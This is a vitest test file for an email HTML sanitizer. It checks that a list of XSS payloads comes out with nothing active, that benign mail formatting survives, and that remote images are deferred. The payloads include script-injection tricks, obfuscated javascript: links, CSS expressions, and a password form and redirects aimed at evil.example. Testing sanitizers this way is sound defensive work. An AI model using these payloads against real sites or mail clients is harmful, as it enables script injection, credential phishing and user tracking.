import { readFileSync } from 'node:fs'
import { parse, type DefaultTreeAdapterMap } from 'parse5'
import { describe, expect, test } from 'vitest'
import { sharedPath, testWithShared } from '../../../../tests/support/shared.ts'
import { sanitizeMailHtml } from './email.sanitize.ts'

type Node = DefaultTreeAdapterMap['node']
type Element = DefaultTreeAdapterMap['element']

/** Everything a browser would build from the HTML, as it stands inside the page that shows it. */
function elementsOf(html: string): Element[] {
  const found: Element[] = []
  const visit = (node: Node): void => {
    if ('tagName' in node) found.push(node)
    if ('content' in node) visit(node.content)
    if ('childNodes' in node) for (const child of node.childNodes) visit(child)
  }
  visit(parse(`<!doctype html><html><head></head><body><div>${html}</div></body></html>`))
  return found.filter(({ tagName }) => !['html', 'head', 'body'].includes(tagName))
}

const active = new Set('script style iframe frame frameset object embed applet form input button select textarea base meta link svg math template noscript xmp plaintext audio video source track portal dialog'.split(' '))

/** What of it could act: run, send, load or leave the frame. */
function dangersIn(html: string): string[] {
  return elementsOf(html).flatMap((element) => {
    const dangers = active.has(element.tagName) || element.namespaceURI !== 'http://www.w3.org/1999/xhtml' ? [`<${element.tagName}>`] : []
    for (const { name, value } of element.attrs) {
      if (name.startsWith('on') || ['src', 'srcset', 'srcdoc', 'action', 'formaction', 'background', 'ping', 'id', 'name', 'class', 'autofocus', 'contenteditable', 'data', 'poster', 'xlink:href'].includes(name)) dangers.push(`${element.tagName}[${name}]`)
      if (name === 'href' && !/^(?:https?:|mailto:|tel:)/i.test(value)) dangers.push(`href=${value}`)
      if (name === 'style' && /url|expression|import|behavior|binding|@|\\|position|javascript/i.test(value)) dangers.push(`style=${value}`)
    }
    return dangers
  })
}

const payloads = [
  '<xmp><script>alert(1)</script></xmp>',
  '<xmp></xmp><img src=x onerror=alert(1)>',
  '<svg><textarea><img src=x onerror=alert(1)></textarea></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<form action=https://evil.example><input name=password></form>',
  '<base href="https://evil.example/"><a href="/x">x</a>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<a href="java&#115;cript:alert(1)">x</a>',
  '<a href="&#x6A;avascript&colon;alert(1)">x</a>',
  '<a href=" \u0001javascript:alert(1)">x</a>',
  '<a href="jav\tascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:x">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="https://a.example" onclick=alert(1) ping=https://evil.example>x</a>',
  '<img src="https://tracker.example/1.gif" onload=alert(1)>',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<img srcset="https://tracker.example/1.gif 2x">',
  '<div style="background:url(https://tracker.example)">x</div>',
  '<div style="background-color:red;background-image:u\\72l(https://t.example)">x</div>',
  '<div style="position:fixed;top:0;left:0;width:100%;height:100%">x</div>',
  '<div style="width:expression(alert(1))">x</div>',
  '<style>@import "https://evil.example";</style>text',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe><img src=x onerror=alert(1)></iframe>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<template><script>alert(1)</script></template>',
  '<table background="https://tracker.example"><tr><td background="https://t.example">x</td></tr></table>',
  '<video poster=https://t.example><source src=x onerror=alert(1)></video>',
  '<link rel=stylesheet href=https://evil.example><object data=https://evil.example></object><embed src=x>',
  '<p id=__proto__ class=x name=cookie>x</p>',
  '<a href="https://a.example" data-remote-src="javascript:alert(1)">x</a><img data-remote-src="javascript:alert(1)" data-cid="x">',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '"><script>alert(1)</script>',
  '<body onload=alert(1)><p>x</p></body>',
  '<details open ontoggle=alert(1)>x</details>',
  '<plaintext><script>alert(1)</script>',
  '<title><img src=x onerror=alert(1)></title>',
  '<select><option><img src=x onerror=alert(1)></option></select>',
  '<a href="https://a.example"><a href="javascript:alert(1)">x</a></a>',
]

describe('sanitizeMailHtml', () => {
  test.each(payloads)('leaves nothing active of %s', (payload) => {
    expect(dangersIn(sanitizeMailHtml(payload))).toEqual([])
  })

  testWithShared('leaves nothing active of the payloads other sanitizers were tested with', () => {
    const corpus = JSON.parse(readFileSync(sharedPath('corpora/html/xss.json'), 'utf8')) as { id: string; payload: string }[]
    expect(corpus.length).toBeGreaterThan(150)
    for (const { id, payload } of corpus) expect(dangersIn(sanitizeMailHtml(payload)), id).toEqual([])
  })

  test('changes nothing the second time', () => {
    for (const payload of payloads) expect(sanitizeMailHtml(sanitizeMailHtml(payload))).toBe(sanitizeMailHtml(payload))
  })

  test('keeps what a mail looks like', () => {
    const html = '<table width="600" bgcolor="#ffffff"><tr><td style="padding:8px; color: rgb(10, 20, 30); font-family: \'Segoe UI\', sans-serif">Hola <b>Ana</b></td></tr></table>'
    expect(sanitizeMailHtml(html)).toBe('<table width="600" bgcolor="#ffffff"><tr><td style="padding:8px;color:rgb(10, 20, 30);font-family:\'Segoe UI\', sans-serif">Hola <b>Ana</b></td></tr></table>')
  })

  test('lets links out without telling where from', () => {
    expect(sanitizeMailHtml('<a href="https://example.com/?a=1&amp;b=2">x</a>')).toBe('<a href="https://example.com/?a=1&amp;b=2" rel="noopener noreferrer" target="_blank">x</a>')
  })

  test('makes remote images wait and names those of the mail', () => {
    expect(sanitizeMailHtml('<img src="https://t.example/1.gif" width="1">')).toBe('<img width="1" data-remote-src="https://t.example/1.gif" />')
    expect(sanitizeMailHtml('<img src="cid:logo%40example.com" alt="Logo">')).toBe('<img alt="Logo" data-cid="logo@example.com" />')
  })

  test('keeps its own marks when cleaned again', () => {
    const once = sanitizeMailHtml('<img src="https://t.example/1.gif"><img src="cid:a@b">')
    expect(sanitizeMailHtml(once)).toBe(once)
  })

  test('bounds depth and size', () => {
    expect(dangersIn(sanitizeMailHtml('<div>'.repeat(5000) + '<script>alert(1)</script>'))).toEqual([])
    expect(sanitizeMailHtml(`<p>${'x'.repeat(2_000_001)}</p>`)).toBe('')
  })
})
